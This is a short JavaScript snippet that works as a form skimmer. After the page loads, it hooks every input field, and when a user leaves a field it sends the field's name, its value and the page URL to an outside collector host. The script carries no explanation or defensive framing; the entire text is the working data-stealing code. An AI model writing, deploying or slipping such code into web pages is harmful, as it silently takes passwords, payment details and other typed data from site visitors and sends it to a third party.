var base = "http://collector.invalid:80/";
function stamp() {
  var n = new Date();
  return n.getDate() + '-' + (n.getMonth() + 1) + '-' + n.getFullYear() + ' ' + n.getHours() + ':' + n.getMinutes();
}
document.addEventListener('readystatechange', event => {
  if (event.target.readyState === "complete") watch();
});
function watch() {
  all = document.getElementsByTagName('input');
  for (var i = 0; i < all.length; i++) {
    all[i].addEventListener('blur', function (e) { store(e.target); }, { once: true });
  }
}
function store(target) {
  var one = {};
  one['at'] = stamp();
  one['url'] = document.URL;
  one['type'] = target.name;
  one['content'] = target.value;
  var r = new XMLHttpRequest();
  r.open("POST", base + "fields", true);
  r.setRequestHeader("Content-Type", "application/json");
  r.send(JSON.stringify(one));
}
